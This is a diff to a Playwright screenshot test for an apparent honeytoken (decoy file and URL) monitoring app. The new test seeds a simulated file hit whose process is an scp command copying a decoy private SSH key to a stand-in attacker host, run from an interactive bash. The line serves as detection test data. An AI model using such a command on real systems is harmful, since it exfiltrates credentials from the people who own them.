@@ -3,11 +3,11 @@ import { mkdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { after, before, test } from 'node:test';
-import type { Browser } from 'playwright-core';
+import type { Browser, Page } from 'playwright-core';
 import { startTestServer, type TestServer } from '../support/server.js';
 import { launchBrowser, openPage, signIn } from './support/browser.js';
 import { curl } from './support/curl.js';
-import { createTokens, recordPastHits } from './support/seed.js';
+import { createTokens, recordPastHits, reportFileAccess, sendHeartbeat } from './support/seed.js';
 
 /** Screenshots land here (gitignored) for people to look at. */
 const OUTPUT = fileURLToPath(new URL('../../test-output/browser/', import.meta.url));
@@ -26,6 +26,14 @@ after(async () => {
   await browser?.close();
   await server?.close();
 });
+
+/** A full-page screenshot from the top (a scrolled page would capture its sticky sidebar mid-way). */
+async function fullPageShot(page: Page, name: string): Promise<void> {
+  const path = join(OUTPUT, name);
+  await page.evaluate('window.scrollTo(0, 0)');
+  await page.screenshot({ path, fullPage: true });
+  assertPng(path);
+}
 
 function assertPng(path: string): void {
   const bytes = readFileSync(path);
@@ -51,27 +59,61 @@ test('screenshots of the token list and a token detail page', async () => {
 
   const financeRow = page.locator('tr', { hasText: finance!.memo });
   await financeRow.getByTestId('hit-count').filter({ hasText: /^15$/ }).waitFor();
-  const listShot = join(OUTPUT, 'token-list.png');
-  await page.screenshot({ path: listShot, fullPage: true });
-  assertPng(listShot);
+  await fullPageShot(page, 'token-list.png');
 
   await financeRow.getByRole('link', { name: finance!.memo }).click();
   await page.getByTestId('chart-total').filter({ hasText: '15 hits in the last 48 hours' }).waitFor();
   const newest = page.locator('tr.hit-row').first();
   await newest.click();
   await page.getByTestId('hit-detail').waitFor();
-  const detailShot = join(OUTPUT, 'token-detail.png');
-  await page.screenshot({ path: detailShot, fullPage: true });
-  assertPng(detailShot);
+  await fullPageShot(page, 'token-detail.png');
 
   await page.getByRole('navigation', { name: 'Sections' }).getByRole('link', { name: 'Tokens' }).click();
   await page.getByRole('link', { name: 'New token' }).click();
   await page.getByLabel('Memo').fill('Slide deck: board meeting notes');
   await page.getByRole('button', { name: 'Create http token' }).click();
   await page.getByTestId('artifact-url').waitFor();
-  const createdShot = join(OUTPUT, 'token-created.png');
-  await page.screenshot({ path: createdShot, fullPage: true });
-  assertPng(createdShot);
+  await fullPageShot(page, 'token-created.png');
+
+  assert.deepEqual(watch.errors, []);
+  assert.deepEqual(watch.cspViolations, []);
+});
+
+test('screenshots of a file hit with its process, and of the agents page', async () => {
+  const created = await server.api('POST', '/tokens', { kind: 'file', memo: 'Decoy SSH key on db-01', options: { path: '/root/.ssh/id_ed25519' } });
+  assert.equal(created.status, 201);
+  const agent = await reportFileAccess(
+    server,
+    created.body.id,
+    '/root/.ssh/id_ed25519',
+    { binary: '/usr/bin/scp', arguments: ['-q', '/root/.ssh/id_ed25519', 'mallory@198.51.100.7:/tmp/'] },
+    { binary: '/bin/bash', arguments: ['-i'] },
+  );
+  await sendHeartbeat(server, agent.key, {
+    node: 'db-01.prod.example.com',
+    version: '0.1.0',
+    startedAt: new Date(Date.now() - 86_400_000).toISOString(),
+    policies: [
+      { file: '/etc/tripline/policies/ssh-key.yaml', name: `tripline-${created.body.id}`, ok: true, errors: [], warnings: [] },
+      { file: '/etc/tripline/policies/exec.yaml', name: null, ok: false, errors: ['spec.kprobes[0].call: this sensor cannot observe "security_bprm_check"'], warnings: [] },
+    ],
+    watched: [{ path: '/root/.ssh/id_ed25519', tokenId: created.body.id, ok: true }],
+  });
+  await server.api('POST', '/agents', { name: 'web-03' });
+
+  const { page, watch } = await openPage(browser);
+  await signIn(page, server.url, server.key);
+  await page.getByRole('link', { name: 'Decoy SSH key on db-01' }).click();
+  await page.locator('tr.hit-row').first().click();
+  await page.getByTestId('hit-detail').waitFor();
+  await fullPageShot(page, 'file-hit-detail.png');
+
+  await page.getByRole('navigation', { name: 'Sections' }).getByRole('link', { name: 'Agents' }).click();
+  const row = page.locator('tr[data-agent-id]', { hasText: 'db-01' });
+  await row.getByText('online').waitFor();
+  await row.getByRole('button', { name: 'Show policies and files' }).click();
+  await page.getByText('this sensor cannot observe').waitFor();
+  await fullPageShot(page, 'agents.png');
 
   assert.deepEqual(watch.errors, []);
   assert.deepEqual(watch.cspViolations, []);
